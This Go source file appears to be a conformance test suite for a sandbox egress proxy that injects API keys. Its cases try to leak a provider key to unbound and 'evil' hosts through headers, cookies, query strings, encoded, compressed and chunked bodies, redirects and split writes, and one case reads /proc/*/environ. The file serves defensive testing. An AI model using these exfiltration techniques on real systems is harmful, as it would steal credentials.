package main

import (
	"bytes"
	"compress/gzip"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/url"
	"os"
	"path/filepath"
	"strings"

	"github.com/andybalholm/brotli"

	"github.com/bailey-sandbox/bailey/internal/conformance/egress/plan"
)

// send sends a request over TLS, keeps what comes in and says how it ended.
func (c *attempt) send(what, host, text string) error {
	a, err := c.over(host, host, text)
	c.received(fmt.Sprint(a.header) + a.body)
	c.note("%s: %v %v", what, a.status, err)
	return errors.Join(err, a.ok())
}

func init() {
	cases["S1"] = func(c *attempt) {
		key := environ("PROVIDER_KEY")
		basic := base64.StdEncoding.EncodeToString([]byte("user:" + key))
		doc, _ := json.Marshal(map[string]any{"c": c.Bad, "list": []string{"x", key}})
		escaped := strings.ReplaceAll(string(doc), key, escape(key))
		bearer := "X-Canary: " + c.Bad
		for _, host := range []string{plan.Unbound, plan.Other} {
			for _, try := range []struct{ what, text string }{
				{"header", get(host, "/", bearer, "X-Api-Key: "+key)},
				{"bearer", get(host, "/", bearer, "Authorization: Bearer "+key)},
				{"odd header", get(host, "/", bearer, "X-Odd: before "+key+" after")},
				{"basic", get(host, "/", bearer, "Authorization: Basic "+basic)},
				{"cookie", get(host, "/", bearer, "Cookie: a=b; session="+key)},
				{"query", get(host, "/?c="+c.Bad+"&key="+key)},
				{"query, encoded", get(host, "/?c="+c.Bad+"&key="+percent(key))},
				{"path", get(host, "/x/"+key+"?c="+c.Bad)},
				{"path, encoded", get(host, "/x/"+percent(key)+"?c="+c.Bad)},
				{"body", request("POST", host, "/", key, bearer)},
				{"JSON", request("POST", host, "/", string(doc), bearer, "Content-Type: application/json")},
				{"JSON, escaped", request("POST", host, "/", escaped, bearer, "Content-Type: application/json")},
				{"form", request("POST", host, "/", "a="+percent(key), bearer, "Content-Type: application/x-www-form-urlencoded")},
				{"base64 body", request("POST", host, "/", basic, bearer)},
				{"user agent", get(host, "/", bearer, "User-Agent: x/"+key)},
				{"referer", get(host, "/", bearer, "Referer: https://x/?k="+key)},
			} {
				c.act()
				c.send(host+" "+try.what, host, try.text)
			}
		}
		c.act()
		a, err := c.plain(plan.OK, get(plan.OK, "/?c="+c.Bad, "X-Api-Key: "+key))
		c.note("over HTTP: %v %v", a.status, err)
		c.twin("where it belongs", c.send("bound", plan.Provider, request("POST", plan.Provider, "/v1/chat", "{}", "Authorization: Bearer "+key, "X-Canary: "+c.Good)))
	}
	cases["S2"] = func(c *attempt) {
		key := environ("PROVIDER_KEY")
		for _, text := range []string{
			get(plan.Provider, "/debug/echo?c="+c.Bad, "Authorization: Bearer "+key),
			request("DELETE", plan.Provider, "/v1/chat?c="+c.Bad, "", "Authorization: Bearer "+key),
			request("POST", plan.Provider, "/v1/files", "{}", "X-Canary: "+c.Bad, "Authorization: Bearer "+key),
		} {
			c.act()
			c.send("elsewhere on the host", plan.Provider, text)
		}
		c.twin("where it belongs", c.send("bound", plan.Provider, request("POST", plan.Provider, "/v1/chat", "{}", "Authorization: Bearer "+key, "X-Canary: "+c.Good)))
	}
	cases["S3"] = func(c *attempt) {
		for _, enc := range []string{"plain", "json", "gzip", "br", "base64", "base64-1", "base64-2", "hex", "percent", "header", "trailer", "location", "error", "chunks"} {
			a, err := c.strict(plan.Echo, get(plan.Echo, "/echo?enc="+enc+"&c="+c.Good, "Authorization: Bearer "+environ("ECHO_KEY"), "Accept-Encoding: gzip, br"))
			c.received(enc + fmt.Sprint(a.header) + decoded(a))
			if enc != "location" && enc != "error" {
				err = errors.Join(err, a.ok())
			}
			c.twin(enc, err)
		}
		h, err := openH2(plan.Echo, plan.Echo)
		if err == nil {
			var a answer
			a, err = h.do("GET", plan.Echo, "/echo?c="+c.Good, nil, field("authorization", "Bearer "+environ("ECHO_KEY")))
			c.received(fmt.Sprint(a.header) + a.body)
			err = errors.Join(err, a.ok())
			h.Close()
		}
		c.twin("HTTP/2", err)
	}
	cases["S7"] = func(c *attempt) {
		key := "Authorization: Bearer " + environ("ECHO_KEY")
		a, err := c.strict(plan.Echo, get(plan.Echo, "/redirect?c="+c.Good+"&to="+percent("https://"+plan.Unbound+"/?c="+c.Bad), key))
		if err == nil && a.status != 302 {
			err = fmt.Errorf("status %d", a.status)
		}
		c.twin("the redirect", err)
		c.act()
		c.send("followed with the credential", plan.Unbound, get(plan.Unbound, "/?c="+c.Bad, key))
	}
	cases["S8"] = func(c *attempt) {
		foreign := "sk-" + c.Bad
		path := "/v1/chat"
		for _, try := range []struct{ what, text string }{
			{"Authorization", request("POST", plan.Provider, path, "{}", "Authorization: Bearer "+foreign)},
			{"X-Api-Key", request("POST", plan.Provider, path, "{}", "X-Api-Key: "+foreign)},
			{"Basic", request("POST", plan.Provider, path, "{}", "Authorization: Basic "+base64.StdEncoding.EncodeToString([]byte(foreign+":")))},
			{"key in the query", request("POST", plan.Provider, path+"?key="+foreign, "{}")},
			{"api_key in the query", request("POST", plan.Provider, path+"?api_key="+foreign, "{}")},
			{"cookie", request("POST", plan.Provider, path, "{}", "Cookie: session="+foreign)},
			{"beside the right one", request("POST", plan.Provider, path, "{}", "Authorization: Bearer "+environ("PROVIDER_KEY"), "X-Api-Key: "+foreign)},
			{"twice", request("POST", plan.Provider, path, "{}", "Authorization: Bearer "+environ("PROVIDER_KEY"), "Authorization: Bearer "+foreign)},
			{"user information", request("POST", plan.Provider, path, "{}", "Proxy-Authorization: Bearer "+foreign, "X-Auth-Token: "+foreign)},
		} {
			c.act()
			c.send(try.what, plan.Provider, try.text)
		}
		c.twin("the right one", c.send("bound", plan.Provider, request("POST", plan.Provider, path, "{}", "Authorization: Bearer "+environ("PROVIDER_KEY"), "X-Canary: "+c.Good)))
	}
	cases["S9"] = func(c *attempt) {
		c.act()
		conn, _, err := connect(plan.Evil + ":443")
		if err == nil {
			t, terr := secure(conn, plan.Evil)
			if err = terr; err == nil {
				_, err = exchange(t, get(plan.Evil, "/v1/chat?c="+c.Bad, "Authorization: Bearer "+environ("PROVIDER_KEY")))
			}
			conn.Close()
		}
		c.note("another base URL: %v", err)
		c.twin("the right one", c.send("bound", plan.Provider, request("POST", plan.Provider, "/v1/chat", "{}", "Authorization: Bearer "+environ("PROVIDER_KEY"), "X-Canary: "+c.Good)))
	}
	cases["S11"] = func(c *attempt) {
		key := environ("PROVIDER_KEY")
		for _, guess := range []string{key[:len(key)-8] + rand.Text()[:8], strings.Repeat(key[:1], len(key)), key[:len(key)-1], key + "x"} {
			c.act()
			c.send("a guess", plan.Provider, request("POST", plan.Provider, "/v1/chat", "{}", "X-Canary: "+c.Bad, "Authorization: Bearer "+guess))
		}
		c.twin("the right one", c.send("bound", plan.Provider, request("POST", plan.Provider, "/v1/chat", "{}", "Authorization: Bearer "+key, "X-Canary: "+c.Good)))
	}
	cases["S13"] = func(c *attempt) {
		key := environ("PROVIDER_KEY")
		half := len(key) / 2
		for _, try := range []struct {
			what  string
			parts []string
		}{
			{"a header in pieces", pieces(get(plan.Unbound, "/?c="+c.Bad, "X-Api-Key: "+key), 7)},
			{"a body in pieces", pieces(request("POST", plan.Unbound, "/", c.Bad[:5]+key, "X-Canary: "+c.Bad), 5)},
			// A streamed body ends where the placeholder shows itself: what comes with
			// its end and later stays inside.
			{"chunks", []string{"POST /?chunks=" + c.ID + " HTTP/1.1\r\nHost: " + plan.Unbound + "\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n", chunk(key[:half]), chunk(key[half:] + c.Bad), chunk("")}},
		} {
			conn, err := dial(plan.Unbound, 443)
			if err != nil {
				c.note("%v", err)
				continue
			}
			c.act()
			t, err := secure(conn, plan.Unbound)
			if err == nil {
				for _, p := range try.parts[:len(try.parts)-1] {
					io.WriteString(t, p)
				}
				_, err = exchange(t, try.parts[len(try.parts)-1])
			}
			conn.Close()
			c.note("%s: %v", try.what, err)
		}
		h, err := openH2(plan.Unbound, plan.Unbound)
		if err == nil {
			c.act()
			a, err := h.do("POST", plan.Unbound, "/?h2="+c.ID, append(pieces(key, 3), c.Bad))
			c.note("frames: %v %v", a.status, err)
			h.Close()
		}
		conn, err := dial(plan.Provider, 443)
		if err == nil {
			var t io.ReadWriter
			if t, err = secure(conn, plan.Provider); err == nil {
				for _, p := range pieces(request("POST", plan.Provider, "/v1/chat", "{}", "Authorization: Bearer "+key, "X-Canary: "+c.Good), 9) {
					io.WriteString(t, p)
				}
				buf := make([]byte, 12)
				_, err = io.ReadFull(t, buf)
				if err == nil && string(buf) != "HTTP/1.1 200" {
					err = errors.New(string(buf))
				}
			}
			conn.Close()
		}
		c.twin("where it belongs, in pieces", err)
	}
	cases["S14"] = func(c *attempt) {
		key := environ("PROVIDER_KEY")
		for _, coding := range []string{"gzip", "br", "zstd", "x-gzip", "gzip, gzip"} {
			var b bytes.Buffer
			switch coding {
			case "br":
				w := brotli.NewWriter(&b)
				io.WriteString(w, c.Bad+key)
				w.Close()
			case "gzip, gzip":
				w := gzip.NewWriter(&b)
				inner := gzip.NewWriter(w)
				io.WriteString(inner, c.Bad+key)
				inner.Close()
				w.Close()
			default:
				w := gzip.NewWriter(&b)
				io.WriteString(w, c.Bad+key)
				w.Close()
			}
			c.act()
			c.send(coding, plan.Unbound, request("POST", plan.Unbound, "/", b.String(), "X-Canary: "+c.Bad, "Content-Encoding: "+coding))
		}
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		io.WriteString(w, c.Good)
		w.Close()
		c.twin("a compressed body without one", c.send("gzip", plan.OK, request("POST", plan.OK, "/?c="+c.Good, b.String(), "Content-Encoding: gzip")))
	}
	cases["S15"] = func(c *attempt) {
		key := environ("PLACES_KEY")
		c.twin("JSON", c.send("JSON", plan.Places, request("POST", plan.Places, "/json", `{"client_secret":"`+key+`","c":"`+c.Good+`"}`, "Content-Type: application/json")))
		c.twin("form", c.send("form", plan.Places, request("POST", plan.Places, "/form", "grant_type=x&client_secret="+url.QueryEscape(key)+"&c="+c.Good, "Content-Type: application/x-www-form-urlencoded")))
		c.twin("query", c.send("query", plan.Places, get(plan.Places, "/query?key="+key+"&c="+c.Good)))
		c.twin("Basic", c.send("Basic", plan.Places, get(plan.Places, "/basic?c="+c.Good, "Authorization: Basic "+base64.StdEncoding.EncodeToString([]byte("user:"+key)))))
		c.twin("WebSocket", webSocket(plan.Places, "/ws", `{"op":2,"d":{"token":"`+key+`","c":"`+c.Good+`"}}`, c.received))
		c.act()
		c.send("a text of another kind", plan.Unbound, request("POST", plan.Unbound, "/json", `{"client_secret":"`+key+`","c":"`+c.Bad+`"}`, "Content-Type: application/json"))
	}
	cases["S18"] = func(c *attempt) {
		c.act()
		a, err := c.plain(plan.Plain, get(plan.Plain, "/?c="+c.Bad, "Authorization: Bearer "+environ("PLAIN_KEY")))
		c.note("over HTTP: %v %v", a.status, err)
		c.received(a.body)
		c.twin("over HTTPS", c.send("over HTTPS", plan.Plain, get(plan.Plain, "/?c="+c.Good, "Authorization: Bearer "+environ("PLAIN_KEY"))))
	}
	cases["S19"] = func(c *attempt) {
		for _, pattern := range []string{"/proc/*/environ", "/proc/*/cmdline", "/proc/*/maps"} {
			files, _ := filepath.Glob(pattern)
			for _, f := range files {
				if b, err := os.ReadFile(f); err == nil {
					c.received(f + string(b))
				}
			}
		}
		c.allowed(plan.OK)
	}
	cases["S21"] = func(c *attempt) {
		key := environ("PROVIDER_KEY")
		// The host has no address: the dial fails after the value was put in.
		c.maybe()
		c.send("an upstream that is not there", plan.Absent, get(plan.Absent, "/?key="+environ("ABSENT_KEY"), "Authorization: Bearer "+environ("ABSENT_KEY")))
		c.maybe()
		c.send("a request that makes no sense", plan.Provider, "POST /v1/chat HTTP/1.1\r\nHost: "+plan.Provider+"\r\nAuthorization: Bearer "+key+"\r\nContent-Length: x\r\n\r\n")
		c.allowed(plan.OK)
	}
}

// decoded gives an answer's body without its content coding.
func decoded(a answer) string {
	var r io.Reader = strings.NewReader(a.body)
	switch a.header.Get("Content-Encoding") {
	case "gzip":
		z, err := gzip.NewReader(r)
		if err != nil {
			return a.body
		}
		r = z
	case "br":
		r = brotli.NewReader(r)
	}
	b, _ := io.ReadAll(r)
	return string(b)
}

// escape writes every character as JSON's \u escape.
func escape(s string) string {
	var b strings.Builder
	for _, r := range s {
		fmt.Fprintf(&b, `\u%04x`, r)
	}
	return b.String()
}

func chunk(s string) string { return fmt.Sprintf("%x\r\n%s\r\n", len(s), s) }

// pieces cuts a text.
func pieces(s string, size int) []string {
	var list []string
	for len(s) > size {
		list, s = append(list, s[:size]), s[size:]
	}
	return append(list, s)
}
